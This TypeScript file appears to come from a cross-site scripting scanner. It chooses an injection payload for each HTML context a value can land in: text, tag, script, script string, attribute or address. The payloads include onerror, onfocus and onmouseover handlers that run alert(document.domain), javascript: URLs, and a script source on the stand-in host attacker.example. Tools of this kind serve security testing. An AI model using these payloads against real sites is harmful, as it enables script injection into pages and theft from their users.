/** Payloads for pages. */
import { type Fitting, quoteName, supports } from './payload.ts';
import { htmlContext } from './string-context.ts';

export const script = 'alert(document.domain)';

/** Attributes of elements whose value is an address: `<a href>` of React, `<html.script>.src`, Vue's `_href`. */
const addressAttribute = /[ ._](?:href|src|action|formaction|data)>?$/i;

export const markup: Fitting = (context, { sinkApi }) => {
  const image = `<img src=x onerror=${script}>`;
  if (addressAttribute.test(sinkApi) && !context?.before.trim())
    return supports(
      sinkApi.includes('script') ? 'https://attacker.example/x.js' : `javascript:${script}`,
      'as the whole address',
    );
  const place = htmlContext(context?.before ?? '');
  switch (place.place) {
    case 'text':
      return supports(image, 'as text between tags');
    case 'tag':
      return supports(` autofocus onfocus=${script} `, 'inside a tag');
    case 'script':
      return supports(script, 'inside a script');
    case 'script-string':
      return supports(`${place.quote};${script}//`, `inside ${quoteName(place.quote)} of a script`);
    case 'attribute':
      if (place.startsUrl)
        return supports(`javascript:${script}`, 'as the beginning of an address in an attribute');
      return place.quote
        ? supports(`${place.quote}>${image}`, `inside an attribute in ${quoteName(place.quote)}`)
        : supports(`x onmouseover=${script} `, 'inside an attribute without quotes');
  }
};
